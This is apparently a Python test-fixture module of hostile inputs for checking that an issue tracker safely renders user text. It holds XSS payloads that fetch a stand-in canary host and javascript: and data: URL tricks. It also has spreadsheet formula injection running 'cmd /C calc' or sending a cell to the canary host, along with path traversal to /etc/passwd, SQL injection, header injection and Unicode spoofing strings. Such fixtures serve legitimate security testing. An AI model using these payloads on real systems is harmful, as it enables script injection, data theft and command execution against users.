"""Texts that somebody who may write into a tracker could use against whoever reads them elsewhere.

Each runs, leaves its place or lies where it is not shown as what it is: text. Scripts among them set `window.hacked`
and ask for an address below `CANARY`, so that a browser can be asked whether any of them ran.
"""

from __future__ import annotations

from collections.abc import Mapping

CANARY = "http://canary.invalid/"
HALF = "\ufdd0"
"""Stands for one half of a character above U+FFFF, which no UTF-8 can hold: on the wire it becomes `\\ud83d`."""

_RUN = f"window.hacked=1;fetch('{CANARY}ran')"

MARKUP: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script out of a title": f"</title></textarea></style></noscript><script>{_RUN}</script>",
    "script from elsewhere": f'<script src="{CANARY}s.js"></script>',
    "mixed case": f"<ScRiPt>{_RUN}</sCrIpT >",
    "image": f'<img src=x onerror="{_RUN}">',
    "image from elsewhere": f'<img src="{CANARY}i.png">',
    "svg": f"<svg/onload={_RUN}><animate onbegin={_RUN}>",
    "style": f"<style>@import '{CANARY}c.css'; * {{ display: none }}</style>",
    "style attribute": f'<b style="position:fixed;inset:0;background:url({CANARY}b.png)">b</b>',
    "frame": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "base": f'<base href="{CANARY}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}">',
    "form": f'</form><form action="{CANARY}"><button autofocus onfocus="{_RUN}">Sign in</button></form>',
    "out of double quotes": f'" autofocus onfocus="{_RUN}" x="',
    "out of single quotes": f"' autofocus onfocus='{_RUN}' x='",
    "out of no quotes": f" onmouseover={_RUN} x=",
    "out of an attribute": f'"><img src=x onerror={_RUN}>',
    "out of backquotes": f"`><img src=x onerror={_RUN}>",
    "out of a script": f"</script><script>{_RUN}</script>",
    "out of a script's text": f"';{_RUN};'\";{_RUN};\"`;{_RUN};${{{_RUN}}}",
    "comment": f"--><img src=x onerror={_RUN}><!--",
    "cdata": f"]]><script>{_RUN}</script><![CDATA[",
    "entities": "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x&#62; &amp;amp; &nbsp;&#0; &NotAnEntity;",
    "double escaped": "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "utf-7": "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "full-width brackets": "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
    "htmx": f'<div data-hx-get="{CANARY}hx" data-hx-trigger="load" hx-on:load="{_RUN}"></div>',
    "template": "{{7*7}} {{ config }} {% for x in () %}{% endfor %} {# gone #} ${7*7} #{7*7} <%= 7*7 %>",
    "template in python": "%s %(secret)s {0} {0.__class__.__mro__} %n %99999999d",
}

ADDRESSES: Mapping[str, str] = {
    "javascript": f"javascript:{_RUN}",
    "javascript in mixed case": f"JaVaScRiPt:{_RUN}",
    "javascript after blanks": f" \t javascript:{_RUN}",
    "javascript with a tab": f"java\tscript:{_RUN}",
    "javascript with a line end": f"java\nscript:{_RUN}",
    "javascript after a control": f"\x01javascript:{_RUN}",
    "javascript and a host": f"javascript://tracker.invalid/%0a{_RUN}",
    "data": f"data:text/html,<script>opener.{_RUN}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:http://tracker.invalid/1",
    "without a scheme": "//canary.invalid/x",
    "with backslashes": "\\\\canary.invalid\\x",
    "with three slashes": f'https:///"onmouseover={_RUN}',
    "without a host": "https:",
    "out of the attribute": f'https://tracker.invalid/"><img src=x onerror={_RUN}>',
    "out of the attribute by a blank": f"https://tracker.invalid/' onmouseover={_RUN} x='",
    "turned round": "https://tracker.invalid/\u202egpj.exe",
    "with a line end": "https://tracker.invalid/\r\nSet-Cookie: hacked=1",
    "broken brackets": "https://[::1",
}

FORMULAS: Mapping[str, str] = {
    "command": "=cmd|' /C calc'!A0",
    "link": f'=HYPERLINK("{CANARY}?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a tab": "\t=1+1",
    "after a carriage return": "\r=1+1",
    "after a line feed": "\n=1+1",
    "after blanks": "   =1+1",
    "after a hard blank": "\u00a0=1+1",
    "after nothing seen": "\u200b\u2060\ufeff\u00ad=1+1",
    "after a control": "\x01\x1f=1+1",
    "after a mark of direction": "\u202e\u2066\u200f\u061c=1+1",
    "full-width": "\uff1d1+1",
    "full-width at": "\uff20SUM(1)",
    "small": "\ufe661+1",
    "in quotes": '"=1+1"',
    "after a separator": ";=1+1",
    "separators": 'a,b;c\t"d"\r\n=1+1,|e',
}

MARKS: Mapping[str, str] = {
    "bidi override": "invoice\u202egpj.exe",
    "bidi isolates left open": "\u2067\u2066\u202b\u202d open",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 12:30",
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff",
    "nothing to see": "\u200b\u200b\u2060",
    "blanks": " \u00a0\u2003\u3000 ",
    "combining storm": "Z" + "\u0335\u0321\u0353\u031b" * 60,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 12 + "\U0001f3f4\U000e0067\U000e007f",
    "half a character": f"cut off {HALF}",
    "NUL": "before\x00after",
    "controls": "bell\x07 back\x08 feed\x0c escape\x1b[31mred\x1b[0m del\x7f c1\x85\x9b31m",
    "line ends": "one\r\ntwo\nthree\rfour\u2028five\u2029six",
    "header": "x\r\nSet-Cookie: hacked=1\r\n\r\n<html>",
    "path": "../../../../etc/passwd",
    "path on windows": "..\\..\\C:\\con.txt",
    "file name": "a\";filename*=UTF-8''evil.html;x=\"",
    "sql": "Robert'); DROP TABLE work_item; --",
    "like": "100%_\\%",
    "number": "1e999",
    "word": "W" * 1_500,
    "not a character": "\ufffe\uffff\U0010ffff",
    "lookalike": "\u0440\u0430\u0443\u0440\u0430\u04cf",
    "log line": "ok\n2026-06-17 10:00 [error] forged",
}

TEXTS: tuple[str, ...] = tuple(text for kind in (MARKUP, ADDRESSES, FORMULAS, MARKS) for text in kind.values())
LINKS: tuple[str, ...] = (*ADDRESSES.values(), *MARKUP.values())
LONG = f"{MARKUP['image']} " + "long " * 200_000
"""A title of a megabyte."""
